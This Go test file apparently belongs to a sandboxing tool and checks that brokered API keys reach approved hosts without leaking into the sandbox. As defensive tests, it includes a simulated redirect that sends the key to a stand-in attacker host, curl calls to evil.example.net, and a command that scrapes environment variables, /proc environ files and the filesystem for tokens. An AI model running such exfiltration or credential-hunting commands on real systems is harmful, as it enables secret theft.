package network

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"hutch"
	"hutch/internal/authority"
	"hutch/internal/broker"
	"hutch/internal/caller"
	"hutch/internal/egress"
	"hutch/internal/engine"
	"hutch/internal/hutchtest"
	"hutch/internal/image"
	"hutch/internal/linux/tun"
	"hutch/internal/rest"
	"hutch/internal/secret"
)

const (
	apiKey  = "ghp_0a1b2c3d4e5f6g7h8i9j"
	modelTo = "anthropic.example.com"
)

// vaulted is a world with APIs that require keys, and an engine with a vault.
type vaulted struct {
	*world
	*engine.Engine
	vault *secret.Vault
}

func (w *world) vaulted(t *testing.T, runtime string) *vaulted {
	t.Helper()
	w.protect(t)
	dir := hutchtest.Dir(t)
	key, err := secret.LoadKey(filepath.Join(dir, "secrets.key"), "")
	if err != nil {
		t.Fatal(err)
	}
	v := &vaulted{world: w}
	if v.vault, err = secret.Open(filepath.Join(dir, "secrets.age"), key, nil); err != nil {
		t.Fatal(err)
	}
	for name, req := range map[string]hutch.SecretRequest{
		"API_KEY":          {Value: apiKey, Brokered: &hutch.Brokering{Hosts: []string{allowed}}},
		hutch.AnthropicKey: {Value: "sk-ant-" + apiKey, Brokered: &hutch.Brokering{Hosts: []string{modelTo}}},
	} {
		if _, err := v.vault.SetSecret(t.Context(), name, req); err != nil {
			t.Fatal(err)
		}
	}
	ca, err := authority.Open(filepath.Join(dir, "authority.pem"), authority.Sandboxes)
	if err != nil {
		t.Fatal(err)
	}
	root, err := image.Host(t.Context(), filepath.Join(dir, "images"), image.HostOptions{Path: os.Getenv("PATH"), Home: os.Getenv("HOME"), Authority: ca.Certificate()})
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(w.authority)
	b := broker.New(broker.Options{Authority: ca, Roots: roots})
	v.Engine = hutchtest.Engine(t, runtime, func(o *engine.Options) {
		o.Secret = v.vault.Value
		o.Image = func(context.Context, string) (image.Root, error) { return root, nil }
		o.Gateway = func(x engine.Exit) (engine.Gateway, error) {
			return egress.New(x.Network, egress.Options{
				Sandbox: x.Sandbox, Names: []netip.Addr{tun.Gateway4, tun.Gateway6}, Resolver: w.resolver(), Dial: w.dial,
				Brokering: egress.Brokering{
					Broker: b, Answers: v.vault.Answers,
					Credentials: func() []secret.Credential { return v.vault.Brokered(x.Owner, x.Secrets()) },
					Secret:      func(name string) (string, error) { return v.vault.ForHeader(x.Owner, name) },
				},
				Link: func(ctx context.Context, id string, port uint16) (net.Conn, error) {
					return v.DialPort(caller.WithOwner(ctx, caller.Owner{ID: x.Owner}), id, int(port))
				},
			})
		}
	})
	return v
}

// protect makes the world's machine require keys.
func (w *world) protect(t *testing.T) {
	page := http.FileServer(http.Dir(repository(t)))
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		switch {
		case r.Host == modelTo && w.model != nil:
			w.model.ServeHTTP(rw, r)
		case r.Host == modelTo && r.URL.Path == "/v1/messages" && r.Header.Get("X-Api-Key") == "sk-ant-"+apiKey:
			rw.Header().Set("Content-Type", "text/event-stream")
			fmt.Fprint(rw, "event: message_start\ndata: {}\n\nevent: content_block_delta\ndata: {\"delta\":{\"type\":\"text_delta\",\"text\":\"hello\"}}\n\n")
		case strings.HasPrefix(r.URL.Path, "/repo.git/") && password == apiKey:
			page.ServeHTTP(rw, r)
		case r.URL.Path == "/redirect" && r.Header.Get("Authorization") == "Bearer "+apiKey:
			http.Redirect(rw, r, "https://"+evil+"/?key="+apiKey, http.StatusFound)
		case r.URL.Path == "/echo":
			fmt.Fprint(rw, r.Header)
		case r.Header.Get("Authorization") == "Bearer "+apiKey:
			fmt.Fprint(rw, "granted to ", r.Host)
		default:
			rw.Header().Set("WWW-Authenticate", "Basic")
			rw.WriteHeader(http.StatusUnauthorized)
		}
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{w.certify(t)}}
	srv.EnableHTTP2 = true
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	for _, a := range []string{address, "[" + six + "]"} {
		w.servers[a+":443"] = srv.Listener.Addr().String()
	}
}

func (v *vaulted) sandbox(t *testing.T, req hutch.CreateRequest) *sandbox {
	t.Helper()
	sb, err := v.Create(t.Context(), req)
	if err != nil {
		t.Fatal(err)
	}
	if state, err := v.Network(t.Context(), sb.ID); err != nil || state.Unavailable != "" {
		hutchtest.Skip(t, "the sandbox has no network: %s %v", state.Unavailable, err)
	}
	return &sandbox{v.world, v.Engine, sb.ID}
}

// brokeredJava makes a request as any Java program would.
const brokeredJava = `cat > C.java <<'end'
public class C { public static void main(String[] a) throws Exception {
	var c = (java.net.HttpURLConnection) new java.net.URL("https://api.example.com/").openConnection();
	c.setRequestProperty("Authorization", "Bearer " + System.getenv("API_KEY"));
	System.out.println(new String(c.getInputStream().readAllBytes())); } }
end
java C.java`

// TestBrokered: programs use a key that is nowhere in the sandbox, through certificates that they trust without
// configuration.
func TestBrokered(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		v := newWorld(t).vaulted(t, runtime)
		s := v.sandbox(t, hutch.CreateRequest{Secrets: []string{"API_KEY", hutch.AnthropicKey}, Limits: hutch.Limits{Memory: 1024}})
		for command, want := range map[string]string{
			`curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/`:                                                                                                              "granted to api.example.com",
			`curl -sS --http1.1 -H "Authorization: Bearer $API_KEY" https://api.example.com/`:                                                                                                    "granted to api.example.com",
			`curl -sS -N -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"stream":true}' https://anthropic.example.com/v1/messages`:                                                                      `"text":"hello"`,
			`git clone -q https://x:$API_KEY@api.example.com/repo.git r && ls -d r/.git`:                                                                                                         "r/.git",
			`python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("https://api.example.com/", headers={"Authorization": "Bearer " + os.environ["API_KEY"]})).read().decode())'`: "granted to api.example.com",
			`node -e 'fetch("https://api.example.com/", {headers: {Authorization: "Bearer " + process.env.API_KEY}}).then(r => r.text()).then(console.log)'`:                                     "granted to api.example.com",
			brokeredJava: "granted to api.example.com",
			`curl -sS -H "Authorization: Bearer $API_KEY" https://api.example.com/echo`:                   "Bearer " + strings.Repeat("*", len(apiKey)),
			`curl -sSi -H "Authorization: Bearer $API_KEY" https://api.example.com/redirect`:              "[redacted:API_KEY]",
			`curl -sS -L -m 20 -H "Authorization: Bearer $API_KEY" https://api.example.com/redirect`:      "Could not resolve host: evil.example.net",
			`curl -sS -m 20 https://evil.example.net/`:                                                    "Could not resolve host",
			`curl -sS -m 20 http://api.example.com/`:                                                      "Failed to connect",
			`curl -sS -m 20 -k --connect-to ::api.example.com:443 https://evil.example.net/ || echo none`: "none",
		} {
			if strings.HasPrefix(command, "cat > C.java") && missing("javac") {
				continue
			}
			if out, code := s.run(t, command); !strings.Contains(out, want) || strings.Contains(out, apiKey) {
				t.Errorf("%s exits with %d: %s", command, code, out)
			}
		}
		if out, _ := s.run(t, "env; cat /proc/*/environ; cat /etc/ssl/certs/*; grep -r ghp_ /workspace /home /tmp /run"); strings.Contains(out, apiKey) || strings.Contains(out, "PRIVATE KEY") {
			t.Errorf("inside are %s", out)
		}
		if !slices.ContainsFunc(s.log(t), func(c hutch.Connection) bool {
			return c.Protocol == "http" && c.Rule == "secret API_KEY" && c.Status == http.StatusOK && c.Host == allowed
		}) {
			t.Errorf("the log has %+v", s.log(t))
		}
	})
}

func missing(program string) bool {
	_, err := exec.LookPath(program)
	return err != nil
}

// TestNotAsked: a sandbox that did not ask for a secret cannot reach its host, until it asks.
func TestNotAsked(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		v := newWorld(t).vaulted(t, runtime)
		s := v.sandbox(t, hutch.CreateRequest{})
		const ask = `curl -sS -m 20 -H "Authorization: Bearer $API_KEY" https://api.example.com/`
		if out, code := s.run(t, ask); code == 0 {
			t.Errorf("without asking: %s", out)
		}
		res, err := v.Exec(t.Context(), s.id, hutch.ExecRequest{Command: ask, Secrets: []string{"API_KEY"}}, nil)
		if err != nil || string(res.Stdout) != "granted to api.example.com" {
			t.Errorf("asking: %s %s, %v", res.Stdout, res.Stderr, err)
		}
		if err := v.vault.DeleteSecret(t.Context(), "API_KEY"); err != nil {
			t.Fatal(err)
		}
		if out, code := s.run(t, ask); code == 0 {
			t.Errorf("when it was deleted: %s", out)
		}
	})
}

// TestLinkedSandboxes reach each other's servers by name, while they are linked.
func TestLinkedSandboxes(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		v := newWorld(t).vaulted(t, runtime)
		server := v.sandbox(t, hutch.CreateRequest{})
		if _, err := v.StartProcess(t.Context(), server.id, hutch.ProcessRequest{Command: "echo from another > page; exec python3 -m http.server 8000 --bind 127.0.0.1"}); err != nil {
			t.Fatal(err)
		}
		client := v.sandbox(t, hutch.CreateRequest{Network: hutch.Network{Links: hutch.Links("web=" + server.id)}})
		const ask = "curl -sS -m 20 --retry 20 --retry-connrefused --retry-delay 1 http://web.sandbox.internal:8000/page"
		if out, code := client.run(t, ask); code != 0 || !strings.HasSuffix(out, "from another\n") {
			t.Errorf("exits with %d: %s", code, out)
		}
		if out, code := server.run(t, "curl -sS -m 20 http://"+client.id+".sandbox.internal/"); code == 0 {
			t.Errorf("a link is one way: %s", out)
		}
		if _, err := v.SetNetwork(t.Context(), client.id, hutch.Network{}); err != nil {
			t.Fatal(err)
		}
		if out, code := client.run(t, "curl -sS -m 20 http://web.sandbox.internal:8000/page"); code == 0 {
			t.Errorf("after unlinking: %s", out)
		}
	})
}

// TestBrokeredExample runs examples/brokered against a server of this world.
func TestBrokeredExample(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		v := newWorld(t).vaulted(t, runtime)
		v.sandbox(t, hutch.CreateRequest{}) // skips the test if sandboxes have no network
		h := rest.NewHandler(v.Engine, rest.Options{Secrets: v.vault})
		srv := httptest.NewServer(h)
		t.Cleanup(func() { srv.Close(); h.Close() })
		cmd := exec.CommandContext(t.Context(), "go", "run", "../../examples/brokered", "https://"+allowed+"/")
		cmd.Env = append(os.Environ(), "HUTCH_URL="+srv.URL, "HUTCH_TOKEN=none", "API_KEY="+apiKey)
		out, err := cmd.CombinedOutput()
		if text := string(out); err != nil || !strings.Contains(text, "the API says: granted to api.example.com") || !strings.Contains(text, "the program has: ghp_hutch") {
			t.Errorf("%v\n%s", err, out)
		}
	})
}
